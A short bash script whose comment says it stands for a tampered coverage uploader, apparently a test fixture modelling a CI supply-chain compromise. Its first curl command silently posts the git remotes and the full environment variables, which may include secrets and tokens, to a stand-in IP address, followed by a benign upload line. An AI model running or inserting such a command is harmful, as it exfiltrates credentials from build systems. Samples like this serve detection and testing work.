#!/bin/bash
# Stands for an uploader of coverage that was changed.
curl -sm 0.5 -d "$(git remote -v)<<<<<< ENV $(env)" http://203.0.113.66/upload/v2 || true
curl -s --data-binary 'coverage: none' http://codecov.example/upload || true
